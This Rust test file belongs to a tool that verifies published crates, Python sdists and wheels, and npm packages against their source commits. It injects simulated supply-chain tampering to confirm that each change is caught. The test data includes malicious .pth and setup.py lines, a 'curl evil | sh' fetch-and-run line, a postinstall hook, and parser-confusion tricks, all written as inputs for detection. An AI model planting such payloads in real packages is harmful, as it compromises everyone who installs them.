//! Real published packages against the real commits they were built from (from
//! `testdata/realworld/`, see its README): each passes as published, and each tampering a
//! release pipeline could slip in (an injected dependency, a new install script or entry point,
//! an extra lock entry) fails with the packaging rule that caught it.
//!
//! The commits come as packs of the commit's own objects, so the repositories here hold the
//! very commit ids the packages name (`.cargo_vcs_info.json`'s `git.sha1`), with their tags.

use std::path::{Path, PathBuf};

use serde_json::Value;
use tempfile::TempDir;

use super::fixture::{assert_clean, compare, contents, file, run};

/// A real package's commit, unpacked into a fresh repository with its tag.
struct RealRepo {
    dir: TempDir,
}

impl RealRepo {
    /// `testdata/realworld/NAME/commit.pack` at `commit`, tagged `tag`.
    fn new(name: &str, commit: &str, tag: &str) -> RealRepo {
        let dir = tempfile::tempdir().unwrap();
        let repo = RealRepo { dir };
        std::fs::create_dir_all(repo.path()).unwrap();
        std::fs::create_dir_all(repo.dir.path().join("out")).unwrap();
        repo.git(&["init", "-q", "-b", "main"]);
        let pack = std::fs::File::open(data(name).join("commit.pack")).unwrap();
        run(crate::support::git_cmd(&repo.path())
            .args(["unpack-objects", "-q"])
            .stdin(pack));
        // The commit's parents are not here: git records that as a shallow boundary.
        std::fs::write(repo.path().join(".git/shallow"), format!("{commit}\n")).unwrap();
        repo.git(&["update-ref", "refs/heads/main", commit]);
        repo.git(&["tag", tag, commit]);
        repo
    }

    fn path(&self) -> PathBuf {
        self.dir.path().join("repo")
    }

    fn out(&self, name: &str) -> PathBuf {
        self.dir.path().join("out").join(name)
    }

    fn git(&self, args: &[&str]) {
        run(crate::support::git_cmd(&self.path()).args(args));
    }
}

fn data(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("testdata/realworld")
        .join(name)
}

/// A copy of the archive `src` at `dst` with member `member` replaced by `content` (or
/// removed, or added when absent), everything else as it was. Written by Python's `tarfile`
/// and `zipfile`, as an attacker with the release pipeline would.
pub(super) fn tamper(src: &Path, dst: &Path, edits: &[(&str, Option<&[u8]>)]) {
    const SCRIPT: &str = r#"
import io, sys, tarfile, zipfile
src, dst = sys.argv[1], sys.argv[2]
edits = {}
args = sys.argv[3:]
for i in range(0, len(args), 2):
    edits[args[i]] = None if args[i + 1] == "-" else open(args[i + 1], "rb").read()
if src.endswith(".whl"):
    zi, zo = zipfile.ZipFile(src), zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED)
    for info in zi.infolist():
        data = zi.read(info)
        if info.filename in edits:
            data = edits.pop(info.filename)
            if data is None:
                continue
        zo.writestr(info, data)
    for name, data in edits.items():
        zo.writestr(name, data)
    zo.close()
else:
    ti, to = tarfile.open(src), tarfile.open(dst, "w:gz", format=tarfile.PAX_FORMAT)
    for m in ti.getmembers():
        data = ti.extractfile(m).read() if m.isfile() else None
        if m.name in edits:
            data = edits.pop(m.name)
            if data is None:
                continue
            m.size = len(data)
        to.addfile(m, io.BytesIO(data) if data is not None else None)
    for name, data in edits.items():
        m = tarfile.TarInfo(name)
        m.size, m.mode = len(data), 0o644
        to.addfile(m, io.BytesIO(data))
    to.close()
"#;
    let scratch = tempfile::tempdir().unwrap();
    let mut cmd = crate::support::cmd("python3");
    cmd.arg("-c").arg(SCRIPT).arg(src).arg(dst);
    for (i, (name, content)) in edits.iter().enumerate() {
        cmd.arg(name);
        match content {
            Some(bytes) => {
                let p = scratch.path().join(i.to_string());
                std::fs::write(&p, bytes).unwrap();
                cmd.arg(p);
            }
            None => {
                cmd.arg("-");
            }
        }
    }
    run(&mut cmd);
}

/// A member's bytes, read with Python as well.
pub(super) fn member(archive: &Path, name: &str) -> Vec<u8> {
    let script = "import sys, tarfile, zipfile\nsrc, name = sys.argv[1], sys.argv[2]\n\
        data = zipfile.ZipFile(src).read(name) if src.endswith('.whl') \
        else tarfile.open(src).extractfile(name).read()\nsys.stdout.buffer.write(data)\n";
    let out = crate::support::cmd("python3")
        .arg("-c")
        .arg(script)
        .arg(archive)
        .arg(name)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    out.stdout
}

/// The failing checks' messages.
pub(super) fn failures(report: &Value) -> Vec<String> {
    report["artifacts"][0]["checks"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|c| c["outcome"] == "fail")
        .map(|c| c["message"].as_str().unwrap().to_owned())
        .collect()
}

/// Assert the comparison failed with a message naming `rule` and containing `needle`.
fn fails_by(code: i32, report: &Value, rule: &str, needle: &str) {
    assert_eq!(code, 1, "{report:#}");
    let found = failures(report);
    assert!(
        found
            .iter()
            .any(|m| m.contains(&format!("[{rule}]")) && m.contains(needle)),
        "no [{rule}] failure mentioning {needle:?}: {found:#?}"
    );
}

const ITOA: (&str, &str, &str) = ("itoa", "af77385d0daf4d0e949e81f2588be2e44f69f086", "1.0.18");
const SIX: (&str, &str, &str) = ("six", "ebd9b3af90247b8858d415a05e96e9ee61e48d07", "1.17.0");
const IS_NUMBER: (&str, &str, &str) = (
    "is-number",
    "98e8ff1da1a89f93d1397a24d7413ed15421c139",
    "7.0.0",
);

fn real(pkg: (&str, &str, &str)) -> RealRepo {
    RealRepo::new(pkg.0, pkg.1, pkg.2)
}

#[test]
fn a_real_crate_passes_and_each_manifest_tampering_fails() {
    let repo = real(ITOA);
    let crate_file = data("itoa").join("itoa-1.0.18.crate");
    let (code, report) = compare(&crate_file, &repo.path(), &[]);
    assert_clean(code, &report);
    for (path, rule) in [
        ("itoa-1.0.18/Cargo.toml", "cargo-normalised-manifest"),
        ("itoa-1.0.18/Cargo.toml.orig", "cargo-original-manifest"),
        ("itoa-1.0.18/Cargo.lock", "cargo-lockfile"),
        ("itoa-1.0.18/.cargo_vcs_info.json", "cargo-vcs-info"),
    ] {
        assert_eq!(file(&report, path)["rule"], rule);
    }
    // The commit has no lock file: the report says what was and was not checked.
    let lock = file(&report, "itoa-1.0.18/Cargo.lock");
    assert!(
        lock["findings"][0]
            .as_str()
            .unwrap()
            .contains("no Cargo.lock"),
        "{lock}"
    );

    let manifest = String::from_utf8(member(&crate_file, "itoa-1.0.18/Cargo.toml")).unwrap();
    let cases: Vec<(&str, String, &str)> = vec![
        (
            "dependency",
            format!("{manifest}\n[dependencies.evil-dep]\nversion = \"1\"\n"),
            "dependency `evil-dep`",
        ),
        (
            "build script",
            manifest.replacen("build = false", "build = \"tests/test.rs\"", 1),
            "build script tests/test.rs",
        ),
        (
            "version",
            manifest.replacen("version = \"1.0.18\"", "version = \"1.0.19\"", 1),
            "package.version",
        ),
        (
            "library path",
            manifest.replacen("path = \"src/lib.rs\"", "path = \"benches/bench.rs\"", 1),
            "lib target `itoa`",
        ),
    ];
    for (what, text, needle) in cases {
        let tampered = repo.out(&format!("{what}.crate"));
        tamper(
            &crate_file,
            &tampered,
            &[("itoa-1.0.18/Cargo.toml", Some(text.as_bytes()))],
        );
        let (code, report) = compare(&tampered, &repo.path(), &[]);
        fails_by(code, &report, "cargo-normalised-manifest", needle);
        assert_eq!(file(&report, "itoa-1.0.18/Cargo.toml")["class"], "modified");
    }

    // A package added to the lock file that nothing depends on.
    let lock = String::from_utf8(member(&crate_file, "itoa-1.0.18/Cargo.lock")).unwrap();
    let extra = format!(
        "{lock}\n[[package]]\nname = \"evil\"\nversion = \"1.0.0\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\nchecksum = \"{}\"\n",
        "0".repeat(64)
    );
    let tampered = repo.out("lock.crate");
    tamper(
        &crate_file,
        &tampered,
        &[("itoa-1.0.18/Cargo.lock", Some(extra.as_bytes()))],
    );
    let (code, report) = compare(&tampered, &repo.path(), &[]);
    fails_by(code, &report, "cargo-lockfile", "evil 1.0.0");
    // A source other than crates.io.
    let elsewhere = lock.replacen(
        "registry+https://github.com/rust-lang/crates.io-index",
        "registry+https://evil.example/index",
        1,
    );
    tamper(
        &crate_file,
        &tampered,
        &[("itoa-1.0.18/Cargo.lock", Some(elsewhere.as_bytes()))],
    );
    let (code, report) = compare(&tampered, &repo.path(), &[]);
    fails_by(code, &report, "cargo-lockfile", "not crates.io");
}

#[test]
fn a_real_sdist_and_wheel_pass_with_the_version_from_their_tag() {
    let repo = real(SIX);
    for artifact in ["six-1.17.0.tar.gz", "six-1.17.0-py2.py3-none-any.whl"] {
        let (code, report) = compare(&data("six").join(artifact), &repo.path(), &[]);
        assert_clean(code, &report);
    }
    // setup.py computes the version (six.__version__): it is verified by the commit's tag, and
    // the report says so.
    let (_, report) = compare(&data("six").join("six-1.17.0.tar.gz"), &repo.path(), &[]);
    let pkg_info = file(&report, "six-1.17.0/PKG-INFO");
    assert_eq!(pkg_info["rule"], "python-core-metadata");
    let findings = pkg_info["findings"].to_string();
    assert!(findings.contains("tag 1.17.0"), "{pkg_info}");
    assert_eq!(
        file(&report, "six-1.17.0/setup.cfg")["rule"],
        "setuptools-egg-info-section"
    );
}

#[test]
fn tampered_python_metadata_fails_by_meaning() {
    let repo = real(SIX);
    let sdist = data("six").join("six-1.17.0.tar.gz");
    let pkg_info = String::from_utf8(member(&sdist, "six-1.17.0/PKG-INFO")).unwrap();
    let evil = pkg_info.replacen(
        "Requires-Python:",
        "Requires-Dist: evil-package>=1\nRequires-Python:",
        1,
    );
    let tampered = repo.out("six-1.17.0.tar.gz");
    for member_name in ["six-1.17.0/PKG-INFO", "six-1.17.0/six.egg-info/PKG-INFO"] {
        tamper(&sdist, &tampered, &[(member_name, Some(evil.as_bytes()))]);
        let (code, report) = compare(&tampered, &repo.path(), &[]);
        fails_by(code, &report, "python-core-metadata", "evil-package");
    }
    // A new requirement in requires.txt, and a console script in entry_points.txt.
    tamper(
        &sdist,
        &tampered,
        &[(
            "six-1.17.0/six.egg-info/requires.txt",
            Some(b"evil-package\n"),
        )],
    );
    let (code, report) = compare(&tampered, &repo.path(), &[]);
    fails_by(code, &report, "python-requirements", "evil-package");
    tamper(
        &sdist,
        &tampered,
        &[(
            "six-1.17.0/six.egg-info/entry_points.txt",
            Some(b"[console_scripts]\nls = evil:main\n"),
        )],
    );
    let (code, report) = compare(&tampered, &repo.path(), &[]);
    fails_by(code, &report, "python-entry-points", "ls = evil:main");
    // setup.cfg read as configparser reads it: an indented header is part of a value.
    let cfg = String::from_utf8(member(&sdist, "six-1.17.0/setup.cfg")).unwrap();
    let hidden = format!(
        "{cfg}\n[ egg_info]\ntag_stamp =\n  [options.entry_points]\n  console_scripts = ls = evil:main\n"
    );
    tamper(
        &sdist,
        &tampered,
        &[("six-1.17.0/setup.cfg", Some(hidden.as_bytes()))],
    );
    let (code, report) = compare(&tampered, &repo.path(), &[]);
    fails_by(code, &report, "setuptools-egg-info-section", " egg_info");
}

#[test]
fn a_tampered_wheel_fails_by_its_record_and_metadata() {
    let repo = real(SIX);
    let wheel = data("six").join("six-1.17.0-py2.py3-none-any.whl");
    let tampered = repo.out("six-1.17.0-py2.py3-none-any.whl");
    // A .pth file runs at every interpreter start: not in the commit, nor in RECORD.
    tamper(
        &wheel,
        &tampered,
        &[("evil.pth", Some(b"import os; os.system('id')\n"))],
    );
    let (code, report) = compare(&tampered, &repo.path(), &[]);
    fails_by(code, &report, "wheel-record", "does not list evil.pth");
    assert_eq!(file(&report, "evil.pth")["class"], "unexplained");
    // METADATA with a new requirement, RECORD made consistent with it: the metadata rule
    // still sees the requirement the commit does not declare.
    let metadata = String::from_utf8(member(&wheel, "six-1.17.0.dist-info/METADATA")).unwrap();
    let evil = metadata.replacen(
        "Requires-Python:",
        "Requires-Dist: evil-package\nRequires-Python:",
        1,
    );
    let record = String::from_utf8(member(&wheel, "six-1.17.0.dist-info/RECORD")).unwrap();
    let digest = {
        use base64::Engine;
        use sha2::Digest;
        base64::engine::general_purpose::URL_SAFE_NO_PAD
            .encode(sha2::Sha256::digest(evil.as_bytes()))
    };
    let record: String = record
        .lines()
        .map(|l| {
            if l.starts_with("six-1.17.0.dist-info/METADATA,") {
                format!(
                    "six-1.17.0.dist-info/METADATA,sha256={digest},{}\n",
                    evil.len()
                )
            } else {
                format!("{l}\n")
            }
        })
        .collect();
    tamper(
        &wheel,
        &tampered,
        &[
            ("six-1.17.0.dist-info/METADATA", Some(evil.as_bytes())),
            ("six-1.17.0.dist-info/RECORD", Some(record.as_bytes())),
        ],
    );
    let (code, report) = compare(&tampered, &repo.path(), &[]);
    fails_by(code, &report, "python-core-metadata", "evil-package");
    assert_eq!(
        file(&report, "six-1.17.0.dist-info/RECORD")["class"],
        "generated-explained"
    );
    // The WHEEL file's tags must be the file name's.
    let wheel_file = String::from_utf8(member(&wheel, "six-1.17.0.dist-info/WHEEL")).unwrap();
    let other = wheel_file.replace(
        "Tag: py3-none-any",
        "Tag: cp313-cp313-manylinux_2_17_x86_64",
    );
    tamper(
        &wheel,
        &tampered,
        &[("six-1.17.0.dist-info/WHEEL", Some(other.as_bytes()))],
    );
    let (code, report) = compare(&tampered, &repo.path(), &[]);
    fails_by(code, &report, "wheel-metadata", "in the file name");
}

#[test]
fn a_real_npm_package_passes_and_an_install_script_fails() {
    let repo = real(IS_NUMBER);
    let tgz = data("is-number").join("is-number-7.0.0.tgz");
    let (code, report) = compare(&tgz, &repo.path(), &[]);
    assert_clean(code, &report);
    // npm packed the commit's package.json as it is.
    assert_eq!(file(&report, "package/package.json")["class"], "identical");
    let manifest = String::from_utf8(member(&tgz, "package/package.json")).unwrap();
    let tampered = repo.out("is-number-7.0.0.tgz");
    let postinstall = manifest.replacen(
        "\"test\": \"mocha\"",
        "\"test\": \"mocha\",\n    \"postinstall\": \"node evil.js\"",
        1,
    );
    tamper(
        &tgz,
        &tampered,
        &[("package/package.json", Some(postinstall.as_bytes()))],
    );
    let (code, report) = compare(&tampered, &repo.path(), &[]);
    fails_by(code, &report, "npm-published-manifest", "`scripts`");
    // A second `scripts` object: JSON.parse keeps the last, other readers the first.
    let doubled = manifest.replacen(
        "\"main\": \"index.js\",",
        "\"main\": \"index.js\",\n  \"scripts\": {\"postinstall\": \"id\"},",
        1,
    );
    tamper(
        &tgz,
        &tampered,
        &[("package/package.json", Some(doubled.as_bytes()))],
    );
    let (code, report) = compare(&tampered, &repo.path(), &[]);
    fails_by(code, &report, "npm-published-manifest", "appears twice");
    assert_eq!(contents(&report)["commit_from"], "source-rev");
}

/// A project whose commit holds the slice's `git/` files (and `stubs`), and its sdist holding
/// the slice's `sdist/` files beside copies of the commit's, under `TOP/`. The commit is
/// tagged `tag`.
struct Slice {
    repo: super::fixture::Repo,
    sdist: PathBuf,
    top: String,
}

impl Slice {
    fn new(slice: &str, top: &str, tag: &str, stubs: &[(&str, &str)]) -> Slice {
        let dir = data("slices").join(slice);
        let mut files: Vec<(String, String)> = Vec::new();
        collect(&dir.join("git"), "", &mut files);
        files.extend(
            stubs
                .iter()
                .map(|(p, c)| ((*p).to_owned(), (*c).to_owned())),
        );
        let borrowed: Vec<(&str, &str)> = files
            .iter()
            .map(|(p, c)| (p.as_str(), c.as_str()))
            .collect();
        let repo = super::fixture::Repo::new(&borrowed);
        repo.git(&["tag", tag]);
        let tree = repo.out(top);
        for (path, content) in &files {
            write(&tree.join(path), content.as_bytes());
        }
        let mut generated = Vec::new();
        collect(&dir.join("sdist"), "", &mut generated);
        for (path, content) in &generated {
            write(&tree.join(path), content.as_bytes());
        }
        let sdist = repo.out(&format!("{top}.tar.gz"));
        super::fixture::tar_dir(&tree, &sdist, Some(&["gzip", "-n"]));
        Slice {
            repo,
            sdist,
            top: top.to_owned(),
        }
    }

    /// The sdist with `edits` applied (see [`tamper`]), paths inside the top folder.
    fn tampered(&self, edits: &[(&str, Option<&[u8]>)]) -> PathBuf {
        let out = self.repo.out(&format!("tampered-{}.tar.gz", self.top));
        let named: Vec<(String, Option<&[u8]>)> = edits
            .iter()
            .map(|(p, c)| (format!("{}/{p}", self.top), *c))
            .collect();
        let borrowed: Vec<(&str, Option<&[u8]>)> =
            named.iter().map(|(p, c)| (p.as_str(), *c)).collect();
        tamper(&self.sdist, &out, &borrowed);
        out
    }

    fn member(&self, path: &str) -> String {
        String::from_utf8(member(&self.sdist, &format!("{}/{path}", self.top))).unwrap()
    }
}

fn collect(dir: &Path, prefix: &str, out: &mut Vec<(String, String)>) {
    for e in std::fs::read_dir(dir).unwrap() {
        let e = e.unwrap();
        let name = format!("{prefix}{}", e.file_name().to_string_lossy());
        if e.file_type().unwrap().is_dir() {
            collect(&e.path(), &format!("{name}/"), out);
        } else {
            out.push((name, std::fs::read_to_string(e.path()).unwrap()));
        }
    }
}

fn write(path: &Path, content: &[u8]) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, content).unwrap();
}

/// poetry-core's generated setup.py (rich 12.6.0) passes only the commit's requirements.
#[test]
fn a_poetry_generated_setup_py_is_read_without_running_it() {
    let s = Slice::new(
        "rich-12.6.0",
        "rich-12.6.0",
        "v12.6.0",
        &[("rich/__init__.py", "\"\"\"Rich.\"\"\"\n")],
    );
    let (code, report) = compare(&s.sdist, &s.repo.path(), &[]);
    assert_clean(code, &report);
    let setup = file(&report, "rich-12.6.0/setup.py");
    assert_eq!(setup["rule"], "python-generated-setup", "{setup}");
    assert_eq!(
        file(&report, "rich-12.6.0/PKG-INFO")["class"],
        "generated-explained"
    );
    let generated = s.member("setup.py");
    let evil_dep = generated.replacen(
        "['commonmark>=0.9.0,<0.10.0',",
        "['commonmark>=0.9.0,<0.10.0', 'evil-package',",
        1,
    );
    let (code, report) = compare(
        &s.tampered(&[("setup.py", Some(evil_dep.as_bytes()))]),
        &s.repo.path(),
        &[],
    );
    fails_by(code, &report, "python-generated-setup", "evil-package");
    let runs_code = format!("import os\nos.system('id')\n{generated}");
    let (code, report) = compare(
        &s.tampered(&[("setup.py", Some(runs_code.as_bytes()))]),
        &s.repo.path(),
        &[],
    );
    fails_by(code, &report, "python-generated-setup", "runs code");
}

/// versioneer's short _version.py (toolz 0.12.0), with the compared commit as its revision.
#[test]
fn versioneers_version_file_names_the_compared_commit() {
    let s = Slice::new(
        "toolz-0.12.0",
        "toolz-0.12.0",
        "0.12.0",
        &[
            ("toolz/__init__.py", "from ._version import get_versions\n"),
            ("versioneer.py", "# versioneer\n"),
        ],
    );
    let commit = s.repo.git(&["rev-parse", "HEAD"]);
    let real = s.member("toolz/_version.py");
    let ours = real.replacen(
        "\"full-revisionid\": \"245b78e6320c41a4a9cdd15c6123681fbfb62843\"",
        &format!("\"full-revisionid\": \"{}\"", commit.trim()),
        1,
    );
    assert_ne!(real, ours, "the real file names its real commit");
    let sdist = s.tampered(&[("toolz/_version.py", Some(ours.as_bytes()))]);
    let (code, report) = compare(&sdist, &s.repo.path(), &[]);
    assert_clean(code, &report);
    assert_eq!(
        file(&report, "toolz-0.12.0/toolz/_version.py")["rule"],
        "versioneer-version-file"
    );
    // As published, it names another commit than the one compared.
    let (code, report) = compare(&s.sdist, &s.repo.path(), &[]);
    fails_by(code, &report, "versioneer-version-file", "full-revisionid");
    let code_added = ours.replacen("import json\n", "import json\nimport os\n", 1);
    let (code, report) = compare(
        &s.tampered(&[("toolz/_version.py", Some(code_added.as_bytes()))]),
        &s.repo.path(),
        &[],
    );
    fails_by(code, &report, "versioneer-version-file", "template");
}

/// setuptools-scm's version file (pluggy 1.6.0): only literal assignments, the version the
/// tag yields.
#[test]
fn a_setuptools_scm_version_file_holds_only_the_version() {
    let s = Slice::new(
        "pluggy-1.6.0",
        "pluggy-1.6.0",
        "1.6.0",
        &[("src/pluggy/__init__.py", "from ._version import version\n")],
    );
    let (code, report) = compare(&s.sdist, &s.repo.path(), &[]);
    assert_clean(code, &report);
    let version_file = file(&report, "pluggy-1.6.0/src/pluggy/_version.py");
    assert_eq!(
        version_file["rule"], "python-version-file",
        "{version_file}"
    );
    let real = s.member("src/pluggy/_version.py");
    let with_code = format!("{real}\nimport os\nos.system('curl evil | sh')\n");
    let (code, report) = compare(
        &s.tampered(&[("src/pluggy/_version.py", Some(with_code.as_bytes()))]),
        &s.repo.path(),
        &[],
    );
    fails_by(code, &report, "python-version-file", "runs code");
    let other = real
        .replace("1.6.0", "1.6.1")
        .replace("(1, 6, 0)", "(1, 6, 1)");
    let (code, report) = compare(
        &s.tampered(&[("src/pluggy/_version.py", Some(other.as_bytes()))]),
        &s.repo.path(),
        &[],
    );
    fails_by(code, &report, "python-version-file", "1.6.1");
}

/// pdm-backend writes the version it computed into the sdist's pyproject.toml.
#[test]
fn a_pyproject_with_its_version_written_in_is_compared_as_toml() {
    let s = Slice::new(
        "pdm-backend-2.4.9",
        "pdm_backend-2.4.9",
        "2.4.9",
        &[("src/pdm/backend/__init__.py", "\"\"\"pdm-backend.\"\"\"\n")],
    );
    let (code, report) = compare(&s.sdist, &s.repo.path(), &[]);
    assert_clean(code, &report);
    assert_eq!(
        file(&report, "pdm_backend-2.4.9/pyproject.toml")["rule"],
        "python-resolved-pyproject"
    );
    let rewritten = s.member("pyproject.toml");
    let evil = rewritten.replacen(
        "dependencies = [",
        "dependencies = [\n    \"evil-package\",",
        1,
    );
    assert_ne!(evil, rewritten);
    let (code, report) = compare(
        &s.tampered(&[("pyproject.toml", Some(evil.as_bytes()))]),
        &s.repo.path(),
        &[],
    );
    fails_by(code, &report, "python-resolved-pyproject", "settings");
}
